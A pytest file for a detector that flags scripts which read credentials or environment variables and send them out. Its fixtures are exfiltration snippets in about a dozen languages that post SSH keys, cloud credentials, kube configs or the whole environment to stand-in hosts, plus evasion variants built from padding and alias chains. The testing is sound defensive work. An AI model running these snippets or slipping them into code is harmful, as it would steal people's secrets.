"""What scripts in a dozen languages read and then send, followed by name."""

from __future__ import annotations

import pytest

from inkgate.code import analyse
from inkgate.code.script_sends import sent
from inkgate.code.script_text import paths

SENT = {
    "go": (
        'if b, err := os.ReadFile(filepath.Join(h, ".kube", "config")); err == nil {\n'
        '\thttp.Post("https://a.example/v", "text/yaml", bytes.NewReader(b))\n}',
        "script-sends-credentials",
    ),
    "rust": (
        'let k = std::fs::read_to_string(home.join(".ssh").join("id_ed25519"))?;\n'
        'let payload = format!("k={}", k);\nreqwest::blocking::Client::new().post(URL).body(payload).send()?;',
        "script-sends-credentials",
    ),
    "java": (
        'byte[] raw = Files.readAllBytes(Paths.get(System.getProperty("user.home"), ".aws", "credentials"));\n'
        "HttpRequest r = HttpRequest.newBuilder(uri).POST(HttpRequest.BodyPublishers.ofByteArray(raw)).build();",
        "script-sends-credentials",
    ),
    "php": (
        '$all = getenv();\n$c = curl_init("https://a.example");\n'
        "curl_setopt($c, CURLOPT_POSTFIELDS, json_encode($all));",
        "script-sends-environment",
    ),
    "ruby": (
        'data = ENV.to_h\nbody = data.to_json\nNet::HTTP.post(URI("https://a.example/v"), body)',
        "script-sends-environment",
    ),
    "goenv": (
        'env := os.Environ()\nbuf, _ := json.Marshal(env)\nhttp.Post("https://a.example", "x", bytes.NewBuffer(buf))',
        "script-sends-environment",
    ),
    "csharp": (
        "var vars = Environment.GetEnvironmentVariables();\nvar text = JsonSerializer.Serialize(vars);\n"
        'await new HttpClient().PostAsync("https://a.example", new StringContent(text));',
        "script-sends-environment",
    ),
    "files": (
        "const src = x('git ls-files').toString().split('\\n');\nfor (const f of src) {\n"
        "  const b = new FormData();\n  b.append('file', fs.readFileSync(f));\n"
        "  await fetch('https://a.example/u', { method: 'POST', body: b });\n}",
        "script-sends-files",
    ),
    "several": (
        "const kit = { a: process.env.AWS_SECRET_ACCESS_KEY, b: process.env.GITHUB_TOKEN };\n"
        "axios.post('https://a.example/u', kit);",
        "script-sends-variable",
    ),
    "powershell": (
        "$e = Get-ChildItem Env:\nInvoke-RestMethod -Uri https://a.example -Method Post -Body ($e | ConvertTo-Json)",
        "script-sends-environment",
    ),
}
KEPT = [
    "const { NOTES_TOKEN } = process.env;\n"
    "await fetch('https://api.notes.example', { headers: { authorization: `Bearer ${NOTES_TOKEN}` } });",
    "const env = process.env;\nfetch(env.API_URL, { body: JSON.stringify({ q: query }) });",
    "spawn('node', ['a.js'], { env: { ...process.env, PORT: 1 } });\nfetch('https://a.example/ready');",
    'key := os.Getenv("OPENAI_API_KEY")\nreq, _ := http.NewRequest("POST", url, bytes.NewReader(body))',
    'data, _ := os.ReadFile("report.json")\nhttp.Post("https://a.example", "application/json", bytes.NewReader(data))',
    "const files = fs.readdirSync('docs');\nfor (const f of files) console.log(f);\nfetch('https://a.example/ok');",
    'let out = std::fs::read_to_string("Cargo.toml")?;\nclient.post(url).body(out).send()?;',
]


@pytest.mark.parametrize("name", SENT)
def test_what_is_read_and_sent_is_found(name: str) -> None:
    """Through assignments, loops, objects that are filled, and paths in pieces."""
    text, rule = SENT[name]
    assert rule in {item.rule for item in sent(text)}


@pytest.mark.parametrize("text", KEPT)
def test_honest_requests_are_left_alone(text: str) -> None:
    """A service gets its own key, its own data, and nothing is sent of what is only passed to a child."""
    assert sent(text) == []


def test_a_path_in_pieces_is_one() -> None:
    """Each piece is given too, with the place of the whole."""
    assert ".ssh/id_rsa" in {path for path, _start, _end in paths('p = join(home, ".ssh", "id_rsa")')}


def test_files_in_these_languages_are_analysed() -> None:
    """By the ending of the file or the label of the fence."""
    text, _rule = SENT["go"]
    assert any(item.rule == "script-sends-credentials" for item in analyse(text, "script").findings)


KEY = 'fs.readFileSync(os.homedir() + "/.ssh/id_rsa")'
FAR = "// ok\n" * 400
MANY = ", ".join(f'"x-{number}": "{"a" * 20}"' for number in range(60))
"""More than any one line has."""
WAYS = {
    "far arguments": f"const d = {KEY};\n{FAR}fetch(u, {{method: 'POST', headers: {{{MANY}}}, body: d}});",
    "large object": f"const d = {KEY};\n{FAR}const o = {{{MANY}, d}};\naxios.post(u, o);",
    "long name": f"const {'d' * 90} = {KEY};\n{FAR}axios.post(u, {'d' * 90});",
    "result": f"function grab() {{\n  const d = {KEY};\n{FAR}  return d;\n}}\naxios.post(u, grab());",
    "parameter": f"function up(name, x) {{ return axios.post(u, x); }}\n{FAR}up('a', {KEY});\n{FAR}",
    "arrow": f"const up = async (x) => axios.post(u, x);\n{FAR}up({KEY});\n{FAR}",
    "then": f"fs.promises.readFile('/root/.ssh/id_rsa').then(d => {{\n{FAR}axios.post(u, d) }})",
    "callback": f"fs.readFile('/root/.ssh/id_rsa', 'utf8', (e, d) => {{\n{FAR}axios.post(u, d) }})",
    "next line": f"const d =\n  {KEY};\n{FAR}axios.post(u, d)",
    "chain of calls": f"const d = fs\n  .readFileSync('/root/.ssh/id_rsa')\n  .toString('hex');\n{FAR}axios.post(u, d)",
    "after 100 requests": "fetch('https://a.example');\n" * 120 + f"const d = {KEY};\naxios.post(u, d)",
}
ENVIRONMENTS = [
    "const req = https.request(o);\nreq.write(JSON.stringify(process.env));\nreq.end();",
    "const s = net.connect(4444, 'h.example');\nconst all = JSON.stringify(process.env);\ns.end(all)",
    "$Data = Get-ChildItem Env:\nInvoke-RestMethod -Uri https://a.example -Method Post -body $data",
    "$p = @{ Uri = 'https://a.example'; Body = (gci env: | ConvertTo-Json) }\nInvoke-RestMethod @p",
    "const {request} = require('undici');\nconst e = {...process.env};\nrequest('https://a.example', {body: e})",
    "import { env } from 'node:process';\naxios.post(u, env)",
    "axios.post(u, process['env'])",
    "def grab\n  x = 1\n  ENV.to_h\nend\nNet::HTTP.post(URI('https://a.example'), grab.to_json)",
    "func grab() []string {\n return os.Environ()\n}\nfunc main() { http.Post(u, 'x', strings.NewReader(grab())) }",
    "String grab() { return System.getenv().toString(); }\n"
    "HttpRequest r = b.POST(BodyPublishers.ofString(grab())).build();",
    "<?php function grab() { return getenv(); }\ncurl_setopt($c, CURLOPT_POSTFIELDS, grab());",
]


@pytest.mark.parametrize("name", WAYS)
def test_no_distance_and_no_detour_hides_what_is_sent(name: str) -> None:
    """Long arguments and names, functions, callbacks and other lines."""
    assert "script-sends-credentials" in {item.rule for item in sent(WAYS[name])}
    assert not sent(WAYS[name].replace(".ssh/id_rsa", "notes/today"))


@pytest.mark.parametrize("text", ENVIRONMENTS)
def test_the_environment_is_sent_in_many_ways(text: str) -> None:
    """Over a connection, in other letters, by a function of the script."""
    assert {item.rule for item in sent(text)} == {"script-sends-environment"}


@pytest.mark.parametrize(
    "text",
    [
        "const req = https.request(o);\nreq.end(JSON.stringify({ q }));\nspawn('a', { env: process.env });",
        "function run(cmd, env) { spawn(cmd, { env }) }\nrun('ls', process.env);\n"
        "function f(u, cmd) { fetch(u, { body: cmd }) }",
        "function tidy(body) { return body }\ntidy(process.env);\nfunction up(body) { fetch(u, { body }) }\nup(text);",
        "out.write(JSON.stringify(process.env));\nfetch('https://a.example/ok');",
        "// We got the key from ~/.ssh/id_rsa, see https://a.example\nconst n = 1;",
    ],
)
def test_what_stays_at_home_is_left_alone(text: str) -> None:
    """A child gets its environment, a parameter is another name in another function, a file is no connection."""
    assert sent(text) == []


READ = 'const d = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");\n' + "// ok\n" * 400
SEND = 'fetch("https://c.example.net/u", {method: "POST", body: d});\n'


@pytest.mark.parametrize(
    "text",
    [
        READ + "r.send(a);\n" * 2000 + SEND,
        "x = 1;\n" * 3000 + READ + SEND,
        READ.replace("const d", "const a0")
        + "".join(f"const a{n} = a{n - 1};\n" for n in range(200, 0, -1))
        + SEND.replace("body: d", "body: a200"),
    ],
    ids=["calls", "assignments", "chain"],
)
def test_a_flood_in_front_hides_nothing(text: str) -> None:
    """Harmless calls, assignments, and names in reverse order before the one that counts."""
    assert "script-sends-credentials" in {item.rule for item in sent(text)}
    assert not sent(text.replace(".ssh/id_rsa", "notes/today"))


def test_what_is_not_followed_to_its_end_is_said() -> None:
    """Thousands of names in brackets inside of brackets are too many, and no reason to be silent."""
    text = READ + "a = (" * 20_000 + "1" + ")" * 20_000 + "\n" + SEND
    assert "script-not-analysed" in {item.rule for item in sent(text)}
    assert not sent(text.replace(".ssh/id_rsa", "notes/today"))


def test_some_hundred_calls_are_followed() -> None:
    """A long honest client is no reason to look no further."""
    assert {item.rule for item in sent(READ + "r.json();\n" * 400 + SEND)} == {"script-sends-credentials"}
